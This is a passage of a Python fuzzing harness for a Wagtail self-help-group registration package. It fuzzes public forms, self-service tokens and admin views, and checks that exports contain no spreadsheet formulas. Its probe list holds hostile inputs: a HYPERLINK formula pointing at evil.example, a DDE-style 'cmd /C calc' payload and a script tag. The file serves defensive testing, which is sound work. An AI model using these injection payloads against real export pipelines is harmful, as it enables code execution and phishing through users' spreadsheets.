            and pairs_get(pairs, "confirm") == "yes"
        )
        if not withdrew or count_before - count_after != 1:
            campaign.fail(
                "self-service changed rows unexpectedly",
                target,
                f"{count_before} -> {count_after}: {method} {path} {body!r}",
            )
        if token in live:
            del live[token]
            state["dead_tokens"].append(token)
        campaign.notes["self-service: withdrawn"] += 1
    campaign.notes[f"self-service: {'valid' if valid else 'invalid'} token"] += 1


# The public pages


def public_pages_case(rng, state, campaign, clients):
    """A content page with a fuzzed query string: paging, filters, junk."""
    path = rng.choice(state["public_paths"])
    params = []
    for _ in range(rng.choice([1, 1, 2, 3])):
        key = rng.choice(["side", "side", "municipality", "q", "p", nasty(rng)[:40]])
        value = rng.choice(
            [
                nasty(rng)[:3000],
                str(rng.choice([2, 0, -1, 10**6, 10**17, 10**18, 2**63 - 1, 2**63])),
                "9" * rng.choice([18, 19, 20, 30, 5000]),
            ]
        )
        params.append((key or "x", value))
    query = urlencode(params)
    if rng.random() < 0.1:
        query += rng.choice(RAW_EXTRAS)
    campaign.send("public pages", clients["public"], "GET", f"{path}?{query}")


# The admin


#: Stands for the id in a reversed admin URL, so that ids no URL pattern
#: accepts (more than 18 digits: they must answer 404) can be sent too.
ID_PLACEHOLDER = 987_654_321


def id_url(name, pk):
    """The admin URL ``name`` for the object ``pk``, whatever ``pk`` is."""
    from django.urls import reverse

    placeholder = str(ID_PLACEHOLDER)
    return reverse(name, args=[placeholder]).replace(placeholder, str(pk))


def pick_pk(rng, pks, other_pks=()):
    """(pk, kind): mostly one of ``pks``, sometimes another page's or none."""
    roll = rng.random()
    if pks and roll < 0.85:
        return rng.choice(pks), "own"
    if other_pks and roll < 0.93:
        return rng.choice(list(other_pks)), "other"
    return rng.choice([0, 99_999_999, 9 * 10**18, 10**30]), "none"


def admin_case(rng, state, campaign, clients, name):
    from django.urls import reverse

    from wagtail_selvhjelp.choices import RegistrationStatus
    from wagtail_selvhjelp.models import (
        AvoidPair,
        GroupMembership,
        MatchingRun,
        Registration,
        SelfHelpGroup,
    )
    from wagtail_selvhjelp.models.matching_runs import Proposal

    client = clients["admin"]
    page_a, page_b = state["page_a"], state["page_b"]
    regs_a = list(Registration.objects.filter(page=page_a).values_list("pk", flat=True))
    regs_b = list(Registration.objects.filter(page=page_b).values_list("pk", flat=True))
    groups_a = list(
        SelfHelpGroup.objects.filter(page=page_a).values_list("pk", flat=True)
    )
    groups_b = list(
        SelfHelpGroup.objects.filter(page=page_b).values_list("pk", flat=True)
    )
    statuses = list(RegistrationStatus.values)

    def post(path, pairs, mutate_keys, mutations=(0, 0, 1, 2)):
        for _ in range(rng.choice(mutations)):
            mutate_pairs(rng, pairs, mutate_keys)
        body, content_type = encode(rng, pairs)
        response = campaign.send(name, client, "POST", path, body, content_type)
        return (
            response,
            pairs,
            f"POST {short(path)} {describe_body(body, content_type)}",
        )

    if name == "registration edit":
        pk, kind = pick_pk(rng, regs_a, regs_b)
        path = id_url("wagtail_selvhjelp_registration:edit", pk)
        row = lambda: list(  # noqa: E731
            Registration.objects.filter(pk=pk).values_list(
                "status", "coordinator_notes"
            )
        )
        before = row()
        pairs = [
            ("status", rng.choice([*statuses, nasty(rng)])),
            ("coordinator_notes", rng.choice([nasty(rng), "Ringt, venter.", ""])),
        ]
        response, pairs, request = post(path, pairs, ["status", "coordinator_notes"])
        after = row()
        campaign.notes[f"admin {name}: changed"] += after != before
        notes = pairs_get(pairs, "coordinator_notes") or ""
        invalid = (
            kind != "own"
            or pairs_get(pairs, "status") not in statuses
            or "\x00" in notes
        )
        if after != before and (response.status_code != 302 or invalid):
            campaign.fail(
                "admin changed from invalid input",
                name,
                f"{response.status_code}; {before} -> {after}; {request}",
            )
    elif name == "bulk status":
        filters = rng.choice(
            [
                {"q": nasty(rng)[:200]},
                {"status": rng.choice([*statuses, nasty(rng)])},
                {"page": rng.choice([str(page_a.pk), str(page_b.pk), nasty(rng)])},
                {"group_kind": rng.choice(["any", nasty(rng)])},
                {"q": "Fuzz Demo 1", "status": "new"},
                {"p": nasty(rng)[:50], "ordering": nasty(rng)[:50]},
            ]
        )
        path = (
            reverse("wagtail_selvhjelp_registration:bulk_status")
            + "?"
            + urlencode(filters)
        )
        if rng.random() < 0.2:
            campaign.send(name, client, "GET", path)
            return

        def statuses_now():
            return dict(Registration.objects.values_list("pk", "status"))

        before = statuses_now()
        pairs = [("status", rng.choice([*statuses, nasty(rng), nasty(rng)]))]
        response, pairs, request = post(path, pairs, ["status"])
        after = statuses_now()
        changed = {pk for pk in before if pk in after and before[pk] != after[pk]}
        campaign.notes[f"admin {name}: changed"] += bool(changed)
        if changed and (
            pairs_get(pairs, "status") not in statuses
            or response.status_code != 302
            or changed & set(regs_b)
        ):
            campaign.fail(
                "admin changed from invalid input",
                name,
                f"{response.status_code}; {len(changed)} changed; {request}",
            )
    elif name == "avoid pair":
        pk, kind = pick_pk(rng, regs_a, regs_b)
        path = id_url("wagtail_selvhjelp_registration:avoid", pk)
        other = rng.choice(
            [
                str(rng.choice(regs_a)) if regs_a else "1",
                str(rng.choice(regs_a)) if regs_a else "1",
                str(rng.choice(regs_b)),
                str(pk),
                nasty(rng),
                "\u00b2",
                "9" * 30,
            ]
        )
        pairs = [("other", other), ("action", rng.choice(["", "remove", nasty(rng)]))]

        def links():
            return sorted(AvoidPair.objects.values_list("first_id", "second_id"))

        before = links()
        response, pairs, request = post(path, pairs, ["other", "action"])
        after = links()
        campaign.notes[f"admin {name}: changed"] += after != before
        parsed = python_int(pairs_get(pairs, "other"))
        valid = kind == "own" and parsed in regs_a and parsed != pk
        if after != before and not valid:
            campaign.fail(
                "admin changed from invalid input",
                name,
                f"{response.status_code}; avoid pairs changed; {request}",
            )
    elif name in ("group create", "group edit"):
        place_ids = state["place_ids_all"]
        if name == "group create":
            page_param = rng.choice(
                [str(page_a.pk)] * 6
                + [str(page_b.pk), nasty(rng)[:50], "\u00b2", "9" * 30, ""]
            )
            path = (
                reverse("wagtail_selvhjelp_group:add")
                + "?"
                + urlencode({"page": page_param})
            )
            kind = "own" if page_param == str(page_a.pk) else "other"
        else:
            pk, kind = pick_pk(rng, groups_a, groups_b)
            path = id_url("wagtail_selvhjelp_group:edit", pk)
        # Valid answers, then up to four mutations: wrong ids, another
        # page's place, nasty texts, dates and times, missing and repeated keys.
        pairs = [
            ("name", rng.choice([f"Fuzzgruppe {rng.randint(1, 999)}", *MARKERS])),
            ("place", rng.choice(place_ids)),
            ("time_slot", rng.choice(state["slot_ids_all"])),
            ("topic", rng.choice(["", *state["topic_ids"]])),
            ("gender", rng.choice(["", "", "woman", "man"])),
            (
                "status",
                rng.choice(["forming", "forming", "forming", "active", "ended"]),
            ),
            ("first_meeting_date", rng.choice(["", "2027-01-12"])),
            ("first_meeting_time", rng.choice(["", "18:00"])),
            ("venue", rng.choice(["", "Frivilligsentralen", rng.choice(MARKERS)])),
        ]
        keys = [key for key, _value in pairs]
        if name == "group edit" and kind == "own" and rng.random() < 0.7:
            # Its own values: an edit that may pass (a group with members
            # keeps its place, time, topic and gender).
            current = (
                SelfHelpGroup.objects.filter(pk=pk)
                .values("name", "place_id", "time_slot_id", "topic_id", "gender")
                .first()
            )
            own_values = {
                "name": current["name"],
                "place": str(current["place_id"]),
                "time_slot": str(current["time_slot_id"]),
                "topic": str(current["topic_id"] or ""),
                "gender": current["gender"],
            }
            pairs = [(k, own_values.get(k, v)) for k, v in pairs]
        if rng.random() < 0.15:
            key = rng.choice(["place", "time_slot", "topic"])
            value = rng.choice(
                [*state["place_ids_b"], "\u00b2", "9" * 30, "-1", "1.5", nasty(rng)]
            )
            pairs = [(k, value if k == key else v) for k, v in pairs]

        def groups():
            return list(
                SelfHelpGroup.objects.order_by("pk").values_list(
                    "pk", "name", "place_id", "time_slot_id", "topic_id", "gender",
                    "status",
                    "first_meeting_date", "first_meeting_time", "venue",
                )
            )  # fmt: skip

        before = groups()
        response, pairs, request = post(path, pairs, keys, mutations=(0, 1, 1, 2, 3))
        after = groups()
        campaign.notes[f"admin {name}: changed"] += after != before
        group_name = pairs_get(pairs, "name")
        invalid = (
            kind != "own"
            or group_name is None
            or not group_name.strip()
            or "\x00" in group_name
            or len(group_name.strip()) > 100
            or pairs_get(pairs, "place") not in place_ids
            or pairs_get(pairs, "time_slot") not in state["slot_ids_all"]
        )
        if after != before and (response.status_code != 302 or invalid):
            campaign.fail(
                "admin changed from invalid input",
                name,
                f"{response.status_code}; groups changed; {request}",
            )
    elif name == "group members":
        open_a = list(
            SelfHelpGroup.objects.filter(
                page=page_a, status__in=["forming", "active"]
            ).values_list("pk", flat=True)
        )
        pk, kind = pick_pk(rng, open_a or groups_a, groups_b)
        path = id_url("wagtail_selvhjelp_group:members", pk)
        if rng.random() < 0.15:
            campaign.send(name, client, "GET", path)
            return
        memberships = list(
            GroupMembership.objects.filter(is_current=True).values_list(
                "pk", "group_id"
            )
        )
        own = [m for m, group in memberships if group == pk]
        action = rng.choice(
            ["", "add", "add", "add", "remove", "remove", "start", "end", nasty(rng)]
        )
        if rng.random() < 0.8 and action == "end":
            action = "add"
        pairs = [("action", action)]
        if action == "remove":
            pairs.append(
                (
                    "membership",
                    rng.choice(
                        [
                            str(rng.choice(own)) if own else "0",
                            str(rng.choice(memberships)[0]) if memberships else "0",
                            nasty(rng),
                            "\u00b2",
                            "9" * 30,
                        ]
                    ),
                )
            )
        else:
            waiting = list(
                Registration.objects.filter(
                    page=page_a, status__in=["new", "contacted", "waiting"]
                )
                .exclude(memberships__is_current=True)
                .values_list("pk", flat=True)[:50]
            )
            pairs += [
                (
                    "registration",
                    rng.choice(
                        [
                            str(rng.choice(waiting)) if waiting else "0",
                            str(rng.choice(regs_a)) if regs_a else "0",
                            str(rng.choice(regs_b)),
                            nasty(rng),
                            "\u00b2",
                        ]
                    ),
                ),
                ("override_reason", rng.choice(["", "Passer likevel.", nasty(rng)])),
                ("group_agreed", rng.choice(["", "on", nasty(rng)])),
            ]

        def state_of_groups():
            return (
                list(
                    GroupMembership.objects.order_by("pk").values_list(
                        "pk", "group_id", "registration_id", "is_current"
                    )
                ),
                list(SelfHelpGroup.objects.order_by("pk").values_list("pk", "status")),
            )

        before = state_of_groups()
        response, pairs, request = post(
            path, pairs, [key for key, _value in pairs], mutations=(0, 0, 0, 1)
        )
        after = state_of_groups()
        campaign.notes[f"admin {name}: changed"] += after != before
        action = pairs_get(pairs, "action")
        invalid = kind != "own"
        if action == "remove":
            membership = pairs_get(pairs, "membership") or ""
            invalid = (
                invalid or not membership.isdigit() or python_int(membership) not in own
            )
        elif action not in ("start", "end"):
            registration = python_int(pairs_get(pairs, "registration"))
            reason = pairs_get(pairs, "override_reason") or ""
            invalid = (
                invalid
                or registration not in regs_a
                or "\x00" in reason
                or len(reason) > 500
            )
        if after != before and (invalid or response.status_code not in (302, 303)):
            campaign.fail(
                "admin changed from invalid input",
                name,
                f"{response.status_code}; memberships changed; {request}",
            )
    elif name == "matching propose":
        page_id = rng.choice([page_a.pk] * 8 + [page_b.pk, 10**30])
        path = id_url("wagtail_selvhjelp_matching:page", page_id)
        if rng.random() < 0.3:
            campaign.send(
                name, client, "GET", path + "?" + urlencode({"x": nasty(rng)[:100]})
            )
            return
        before = MatchingRun.objects.filter(page=page_b).count()
        response, _pairs, request = post(path, [("x", nasty(rng)[:1000])], ["x"])
        if MatchingRun.objects.filter(page=page_b).count() != before:
            campaign.fail("admin changed another page", name, request)
    elif name == "matching run":
        runs_a = list(
            MatchingRun.objects.filter(page=page_a)
            .order_by("-pk")
            .values_list("pk", flat=True)[:3]
        )
        run_pk, kind = pick_pk(rng, runs_a, [state["run_b"].pk])
        path = id_url("wagtail_selvhjelp_matching:run", run_pk)
        if rng.random() < 0.1:
            campaign.send(name, client, "GET", path)
            return
        run = MatchingRun.objects.filter(pk=run_pk).first()
        proposal = run.get_proposal() if run else Proposal()
        proposals = proposal.groups
        members = [m for g in proposals for m in g.members]
        unplaced = list(proposal.unplaced)
        action = rng.choice(
            ["leave_out", "drop", "keep", "exclude", "include", "create", "create",
             "rerun", "", nasty(rng)]
        )  # fmt: skip
        if action == "rerun" and rng.random() < 0.7:
            action = "keep"
        index_values = [
            str(rng.randrange(len(proposals))) if proposals else "0",
            "-1",
            "9" * 30,
            "\u00b2",
            "\u0661",
            nasty(rng),
        ]
        pairs = [
            ("action", action),
            ("group", rng.choice(index_values)),
            (
                "person",
                rng.choice(
                    [
                        str(rng.choice(members)) if members else "1",
                        str(rng.choice(unplaced)) if unplaced else "1",
                        "9" * 30,
                        nasty(rng),
                    ]
                ),
            ),
        ]
        if action == "create":
            pairs = [("action", "create")] + [
                ("groups", rng.choice(index_values))
                for _ in range(rng.choice([0, 1, 1, 2, 3]))
            ]

        def run_state():
            return (
                list(
                    MatchingRun.objects.order_by("pk").values_list(
                        "pk", "proposal", "excluded"
                    )
                ),
                SelfHelpGroup.objects.count(),
            )

        before = run_state()
        response, pairs, request = post(
            path, pairs, [key for key, _value in pairs], mutations=(0, 0, 0, 1)
        )
        after = run_state()
        campaign.notes[f"admin {name}: changed"] += after != before
        action = pairs_get(pairs, "action")
        known = ("leave_out", "drop", "keep", "exclude", "include", "create", "rerun")
        invalid = kind != "own" or action not in known
        if action in ("leave_out", "drop", "keep"):
            index = python_int(pairs_get(pairs, "group"))
            invalid = invalid or index is None or not 0 <= index < len(proposals)
        if action == "create":
            indices = [
                python_int(value)
                for value in pairs_getlist(pairs, "groups")
                if value.isdigit()
            ]
            invalid = invalid or not any(
                i is not None and 0 <= i < len(proposals) for i in indices
            )
        if after != before and (invalid or response.status_code == 404):
            campaign.fail(
                "admin changed from invalid input",
                name,
                f"{response.status_code}; run or groups changed; {request}",
            )
    elif name == "erase":
        pk, kind = pick_pk(rng, regs_a, regs_b)
        path = id_url("wagtail_selvhjelp_registration:erase", pk)
        pairs = [("confirm", rng.choice(["yes", "", "YES", "on", nasty(rng)]))]
        response, pairs, request = post(path, pairs, ["confirm"])
        exists = Registration.objects.filter(pk=pk).exists()
        campaign.notes[f"admin {name}: changed"] += pk in regs_a and not exists
        if (
            pk in regs_a + regs_b
            and not exists
            and (kind != "own" or pairs_get(pairs, "confirm") != "yes")
        ):
            campaign.fail(
                "admin changed from invalid input",
                name,
                f"{response.status_code}; erased; {request}",
            )
    elif name == "confirm":
        pk, kind = pick_pk(rng, regs_a, regs_b)
        path = id_url("wagtail_selvhjelp_registration:confirm", pk)
        row = lambda: list(  # noqa: E731
            Registration.objects.filter(pk=pk).values_list("confirmed_at", flat=True)
        )
        before = row()
        response, _pairs, request = post(path, [("x", nasty(rng)[:1000])], ["x"])
        campaign.notes[f"admin {name}: changed"] += row() != before
        if row() != before and (kind != "own" or response.status_code != 302):
            campaign.fail(
                "admin changed from invalid input",
                name,
                f"{response.status_code}; confirmed; {request}",
            )
    elif name in ("registration delete", "group delete"):
        if name == "registration delete":
            pk, kind = pick_pk(rng, regs_a, regs_b)
            path = id_url("wagtail_selvhjelp_registration:delete", pk)
            model = Registration
        else:
            pk, kind = pick_pk(rng, groups_a, groups_b)
            path = id_url("wagtail_selvhjelp_group:delete", pk)
            model = SelfHelpGroup
        existed = model.objects.filter(pk=pk).exists()
        response, _pairs, request = post(path, [("x", nasty(rng)[:100])], ["x"])
        if existed and kind != "own" and not model.objects.filter(pk=pk).exists():
            campaign.fail("admin changed another page", name, request)
    elif name == "admin GET":
        admin_get_case(rng, state, campaign, client, regs_a, groups_a)
    else:
        raise ValueError(name)


#: Filter values that once made a listing fail with a server error (issue
#: 17): ids past the database's integer, years and dates at or past the
#: calendar's ends, numbers in forms that Python or the database read
#: otherwise than the form does.
HOSTILE_FILTER_VALUES = ("9" * 20, "9" * 19, "1" * 400, "-1", "0", "-0", "10000",
    "1e400", "2026.5", "0x10", "NaN", "inf", "\u0661\u0662", "\u00b2",
    "9999-12-31", "0001-01-01", "99999-01-01", "2026-02-30", "2026-13-01",
    "1900-01-01", "2999-12-31", "2026")  # fmt: skip

#: The admin's listings (URL name -> the filter set whose keys they read;
#: None: search, paging and ordering only).
LISTINGS = {
    "wagtail_selvhjelp_registration:index": "RegistrationFilterSet",
    "wagtail_selvhjelp_registration:index_results": "RegistrationFilterSet",
    "wagtail_selvhjelp_registration:bulk_status": "RegistrationFilterSet",
    "wagtail_selvhjelp_group:index": "SelfHelpGroupFilterSet",
    "wagtail_selvhjelp_group:index_results": "SelfHelpGroupFilterSet",
    "wagtail_selvhjelp_statistics:index": "StatisticFilterSet",
    "wagtail_selvhjelp_statistics:results": "StatisticFilterSet",
    "wagtail_selvhjelp_matching:index": None,
}


def listing_keys(filterset_name):
    """The query keys a listing reads: its filters' (a range widget's two
    suffixed keys), search, paging, ordering and export."""
    from wagtail_selvhjelp import filters

    keys = ["q", "p", "ordering", "export"]
    if filterset_name is None:
        return keys
    for name, filter_ in getattr(filters, filterset_name).base_filters.items():
        suffixes = getattr(filter_.extra.get("widget"), "suffixes", None)
        keys += [f"{name}_{suffix}" for suffix in suffixes] if suffixes else [name]
    return keys


def filter_value(rng, key):
    if key == "export":
        return rng.choice(["", "csv", "xlsx", "pdf"])
    roll = rng.random()
    if roll < 0.5:
        return rng.choice(HOSTILE_FILTER_VALUES)
    if roll < 0.6:
        return str(rng.randrange(1, 400))
    return nasty(rng)[:300]


def filters_valid(state, url_name, query):
    """Whether the listing's filters accept ``query`` (as the coordinator)."""
    from django.http import QueryDict
    from django.test import RequestFactory

    from wagtail_selvhjelp import filters

    filterset_name = LISTINGS[url_name]
    if filterset_name is None:
        return True
    request = RequestFactory().get("/")
    request.user = state["user"]
    filterset_class = getattr(filters, filterset_name)
    return filterset_class(
        QueryDict(query), queryset=filterset_class._meta.model.objects.all(),
        request=request,
    ).is_valid()  # fmt: skip


def admin_get_case(rng, state, campaign, client, regs_a, groups_a):
    from django.urls import reverse

    name = "admin GET"
    choice = rng.randrange(7)
    if choice < 4:
        url_name = rng.choice(list(LISTINGS))
        keys = listing_keys(LISTINGS[url_name])
        path = reverse(url_name)
    else:
        url_name = None
        keys = ["q", "status", "page", "p", "ordering", "export"]
        if choice == 4:
            path = reverse("wagtail_selvhjelp_group:add")
        elif choice == 5 and regs_a:
            path = id_url("wagtail_selvhjelp_registration:inspect", rng.choice(regs_a))
        else:
            path = id_url(
                "wagtail_selvhjelp_registration:history",
                rng.choice(regs_a) if regs_a else 1,
            )
    params = [
        (key, filter_value(rng, key))
        for key in rng.sample(keys, min(len(keys), rng.choice([1, 1, 2, 3, 4])))
    ]
    query = urlencode(params)
    if rng.random() < 0.1:
        query += rng.choice(RAW_EXTRAS)
    response = campaign.send(name, client, "GET", path + "?" + query)
    campaign.notes[f"admin listing query strings: {url_name or 'other'}"] += 1
    # The registrations' export (personal data) must refuse an invalid
    # filter rather than widen to every registration the user sees.
    exported = response.has_header("Content-Disposition")
    registrations = (url_name or "").startswith("wagtail_selvhjelp_registration:")
    if exported and registrations and not filters_valid(state, url_name, query):
        campaign.fail("export with an invalid filter", name, path + "?" + query)


# Admin URLs, as the permission matrix reads them


NAMESPACES = (
    "wagtail_selvhjelp_registration",
    "wagtail_selvhjelp_group",
    "wagtail_selvhjelp_matching",
    "wagtail_selvhjelp_statistics",
    "wagtail_selvhjelp_privacy",
)

#: Which fuzz target covers each of the package's admin URL names.
COVERED = {
    "wagtail_selvhjelp_registration:edit": "registration edit",
    "wagtail_selvhjelp_registration:bulk_status": "bulk status",
    "wagtail_selvhjelp_registration:avoid": "avoid pair",
    "wagtail_selvhjelp_registration:erase": "erase",
    "wagtail_selvhjelp_registration:confirm": "confirm",
    "wagtail_selvhjelp_registration:delete": "registration delete",
    "wagtail_selvhjelp_group:add": "group create",
    "wagtail_selvhjelp_group:edit": "group edit",
    "wagtail_selvhjelp_group:members": "group members",
    "wagtail_selvhjelp_group:delete": "group delete",
    "wagtail_selvhjelp_matching:page": "matching propose",
    "wagtail_selvhjelp_matching:run": "matching run",
    # Pages without a form of their own; fuzzed through their query strings.
    "wagtail_selvhjelp_registration:index": "admin GET",
    "wagtail_selvhjelp_registration:index_results": "admin GET",
    "wagtail_selvhjelp_registration:inspect": "admin GET",
    "wagtail_selvhjelp_registration:history": "admin GET",
    "wagtail_selvhjelp_group:index": "admin GET",
    "wagtail_selvhjelp_statistics:index": "admin GET",
    "wagtail_selvhjelp_group:index_results": "admin GET",
    "wagtail_selvhjelp_statistics:results": "admin GET",
    "wagtail_selvhjelp_matching:index": "admin GET",
    # Read at the end (stored fuzz data), or nothing to fuzz.
    "wagtail_selvhjelp_registration:add": "(refused for everyone)",
    "wagtail_selvhjelp_registration:person_data": "final sweep (JSON)",
    "wagtail_selvhjelp_registration:usage": "final sweep",
    "wagtail_selvhjelp_registration:history_results": "final sweep",
    "wagtail_selvhjelp_group:history": "final sweep",
    "wagtail_selvhjelp_group:history_results": "final sweep",
    "wagtail_selvhjelp_group:usage": "final sweep",
    "wagtail_selvhjelp_privacy:index": "final sweep (not the coordinator's)",
}


def package_urls():
    from django.urls import get_resolver

    found = set()

    def walk(patterns, namespace):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                walk(pattern.url_patterns, pattern.namespace or namespace)
            elif namespace in NAMESPACES and pattern.name:
                found.add(f"{namespace}:{pattern.name}")

    walk(get_resolver().url_patterns, None)
    return sorted(found)


# The final sweep

#: Names posted through the public form before the sweep, whatever the
#: campaign happened to store: each is then in the listings and exports.
PROBE_NAMES = [
    "Kari \x1b[31mDemo",
    "Ola\x07Demo\x0b",
    '=HYPERLINK("http://evil.example","Kari")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202eomeD iraK",
    "<script>fuzz(1)</script> Demo",
    "\ufffe\uffff Demo",
]


def post_probes(rng, state, campaign, clients, this_year):
    """Post PROBE_NAMES as otherwise valid registrations; how many were stored."""
    from wagtail_selvhjelp.models import Registration

    stored = 0
    for number, name in enumerate(PROBE_NAMES):
        token = form_token(rng, state, clients["public"], campaign)
        pairs = [
            ("form_token", token),
            *[
                (k, name if k == "name" else v)
                for k, v in valid_answers(rng, state, 900_000 + number)
            ],
        ]
        before = Registration.objects.count()
        response = campaign.send(
            "public form (probes)",
            clients["public"],
            "POST",
            state["form_path"],
            urlencode(pairs),
            "application/x-www-form-urlencoded",
        )
        if Registration.objects.count() > before:
            stored += 1
            newest = Registration.objects.order_by("-pk").first()
            state["stored_names"][newest.pk] = newest.name
            state["probe_emails"][name] = newest.email
        elif response.status_code == 303:
            campaign.fail("stored without a 303", "public form (probes)", name)
    campaign.notes[
        f"probes: {stored} of {len(PROBE_NAMES)} names stored (those with "
        "control characters are refused; formulas, bidi overrides, markup "
        "and noncharacters are stored)"
    ] += 1


def final_sweep(state, campaign, clients):
    """Admin pages with the stored fuzz data; exports checked for formulas."""
    from django.urls import reverse

    from wagtail_selvhjelp.models import MatchingRun, Registration, SelfHelpGroup

    client = clients["admin"]
    target = "final sweep"
    paths = [
        reverse("wagtail_selvhjelp_registration:index"),
        reverse("wagtail_selvhjelp_registration:index") + "?q=fuzz",
        reverse("wagtail_selvhjelp_registration:index_results"),
        reverse("wagtail_selvhjelp_registration:bulk_status"),
        reverse("wagtail_selvhjelp_group:index"),
        reverse("wagtail_selvhjelp_group:index_results"),
        reverse("wagtail_selvhjelp_statistics:index"),
        reverse("wagtail_selvhjelp_statistics:results"),
        reverse("wagtail_selvhjelp_matching:index"),
        reverse("wagtail_selvhjelp_matching:page", args=[state["page_a"].pk]),
        reverse("wagtail_selvhjelp_privacy:index"),
        "/admin/",
    ]
    regs = list(
        Registration.objects.filter(page=state["page_a"])
        .order_by("-pk")
        .values_list("pk", flat=True)[:10]
    )
    regs += [pk for pk in state["stored_names"] if pk not in regs][:20]
    for pk in regs:
        for url_name in ("inspect", "edit", "history", "usage", "erase"):
            paths.append(
                reverse(f"wagtail_selvhjelp_registration:{url_name}", args=[pk])
            )
        paths.append(id_url("wagtail_selvhjelp_registration:person_data", pk))
    for pk in SelfHelpGroup.objects.filter(page=state["page_a"]).values_list(
        "pk", flat=True
    )[:20]:
        for url_name in ("members", "edit", "history", "usage", "delete"):
            paths.append(reverse(f"wagtail_selvhjelp_group:{url_name}", args=[pk]))
    for pk in (
        MatchingRun.objects.filter(page=state["page_a"])
        .order_by("-pk")
        .values_list("pk", flat=True)[:5]
    ):
        paths.append(id_url("wagtail_selvhjelp_matching:run", pk))
    for path in paths:
        campaign.send(target, client, "GET", path)
    # Exports: every registration, then each probe on its own (a search for
    # its e-mail), so that a probe that breaks an export is named.
    index = reverse("wagtail_selvhjelp_registration:index")
    check_csv(campaign, client, index + "?export=csv", "all registrations")
    check_xlsx(campaign, client, index + "?export=xlsx", "all registrations")
    for name, email in state["probe_emails"].items():
        query = urlencode({"q": email})
        check_xlsx(campaign, client, f"{index}?export=xlsx&{query}", f"probe {name!r}")


def download(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def check_csv(campaign, client, path, what):
    from wagtail_selvhjelp.export import FORMULA_PREFIXES

    response = campaign.send("final sweep", client, "GET", path)
    if response.status_code != 200:
        return
    text = download(response).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    # Also as a spreadsheet with ";" as its list separator reads it.
    cells = [cell for row in rows[1:] for cell in row] + [
        cell.lstrip(' "')
        for row in list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
        for cell in row
    ]
    campaign.notes[f"CSV export of {what}: {len(rows) - 1} rows checked"] += 1
    for cell in [c for c in cells if c.startswith(FORMULA_PREFIXES)][:5]:
        campaign.fail("formula in the CSV export", "final sweep", repr(cell))


def check_xlsx(campaign, client, path, what):
    from openpyxl import load_workbook

    response = campaign.send("final sweep", client, "GET", path)
    if response.status_code != 200:
        return
    try:
        sheet = load_workbook(io.BytesIO(download(response))).active
    except Exception as error:  # a file no spreadsheet program opens
        campaign.fail(
            "XLSX export not readable",
            "final sweep",
            f"GET {path} ({what}): 200, but openpyxl cannot read the file: "
            f"{type(error).__name__}: {error}",
        )
        return
    formulas = [
        cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    campaign.notes[f"XLSX export of {what}: {sheet.max_row - 1} rows read"] += 1
    for value in formulas[:5]:
        campaign.fail("formula in the XLSX export", "final sweep", repr(value))


# Report


#: The checks printed with PASS/FAIL, and the kinds of failure each counts.
CHECKS = [
    (
        "public form: nothing stored from invalid input, at most one row and "
        "only with a 303",
        ["stored from invalid input", "stored more than one", "stored without a 303"],
    ),
    (
        "public form: valid answers stored, as sent",
        [
            "valid registration refused",
            "stored name differs",
            "form GET without a token",
        ],
    ),
    (
        "self-service: 200 only for a valid token; rows deleted only by a withdrawal",
        [
            "answered an invalid token",
            "refused a valid token",
            "self-service changed rows unexpectedly",
        ],
    ),
    (
        "admin: nothing changed from invalid input or without a redirect",
        ["admin changed from invalid input"],
    ),
    (
        "admin: nothing of the other page changed",
        ["admin changed another page", "other page changed"],
    ),
    ("nothing echoed unescaped", ["unescaped echo"]),
    (
        "exports: readable, no formula in a cell",
        [
            "formula in the CSV export",
            "formula in the XLSX export",
            "XLSX export not readable",
        ],
    ),
]


def print_report(campaign, seconds, database, args, uncovered, b_changed):
    print()
    print(
        f"{campaign.requests} requests in {seconds:.0f} s "
        f"({campaign.requests / seconds:.0f}/s); seed {args.seed}; {database}"
    )
    print()
    print(
        f"{'target':<22} {'requests':>8} {'ms/req':>6}  responses by method and status"
    )
    for target in [
        "public form",
        "self-service",
        "public pages",
        *ADMIN_WEIGHTS,
        "public form (probes)",
        "final sweep",
    ]:
        counts = campaign.counts.get(target)
        if not counts:
            continue
        text = ", ".join(f"{key}: {value}" for key, value in sorted(counts.items()))
        total = sum(counts.values())
        mean = campaign.seconds[target] * 1000 / total
        print(f"{target:<22} {total:>8} {mean:>6.0f}  {text}")
    print()
    for note, value in sorted(campaign.notes.items()):
        print(f"  {note}: {value}")
    if uncovered:
        print(f"  package admin URLs without a fuzzer: {', '.join(uncovered)}")
    print()
    server_errors = campaign.server_errors
    by_place = Counter()
    for error in server_errors:
        last = error["traceback"].strip().splitlines()
        key = (error["target"], last[-1][:160] if last else "?")
        by_place[key] += 1
    failures = campaign.failures
    checks = [("no 5xx", len(server_errors))]
    for label, kinds in CHECKS:
        checks.append((label, sum(len(failures.get(kind, [])) for kind in kinds)))
    known = {kind for _label, kinds in CHECKS for kind in kinds}
    other = sum(len(items) for kind, items in failures.items() if kind not in known)
    if other:
        checks.append(("other checks", other))
    for label, count in checks:
        print(
            f"{'PASS' if not count else 'FAIL'}  {label}"
            + (f" ({count})" if count else "")
        )
    if server_errors:
        print(f"\n5xx responses: {len(server_errors)}, by target and exception:")
        for (target, last), count in by_place.most_common():
            print(f"  {count:>5}  {target}: {last}")
        shown = set()
        for error in server_errors:
            key = (error["target"], error["traceback"].strip().splitlines()[-1][:160])
            if key in shown or len(shown) >= args.show:
                continue
            shown.add(key)
            print(f"\n--- {error['status']} on {error['request']}")
            print(f"    body: {error['body']}")
            print("    " + short_traceback(error["traceback"]).replace("\n", "\n    "))
    for kind, items in campaign.failures.items():
        print(f"\n{kind}: {len(items)}")
        for target, detail in items[: args.show]:
            print(f"  [{target}] {detail[:1500]}")
    failed = bool(server_errors) or bool(campaign.failures) or b_changed
    print()
    print("FAIL" if failed else "PASS")
    return failed


# Main


def choose_database(url):
    """PostgreSQL if it answers, else a SQLite file (see ``pages.py``)."""
    from benchmarks.pages import choose_database as choose

    return choose(
        url,
        name="fuzz",
        sqlite_note="SQLite accepts NUL bytes that PostgreSQL refuses.",
    )


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--posts", type=int, default=10_000, help="requests in all")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument(
        "--database-url",
